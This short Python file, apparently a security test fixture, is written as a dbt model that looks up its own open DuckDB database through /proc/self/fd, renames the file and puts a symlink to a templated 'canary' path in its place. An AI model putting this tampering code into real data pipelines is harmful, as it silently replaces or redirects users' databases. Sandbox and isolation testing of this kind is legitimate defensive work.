import glob
import os


def model(dbt, session):
    """Puts a link in the place of the database that it is part of."""
    for name in glob.glob("/proc/self/fd/*"):
        at = os.path.realpath(name)
        if at.endswith(".duckdb"):
            os.rename(at, at + ".old")
            os.symlink("{machine}/canary", at)
    return session.sql("select 1 as a")
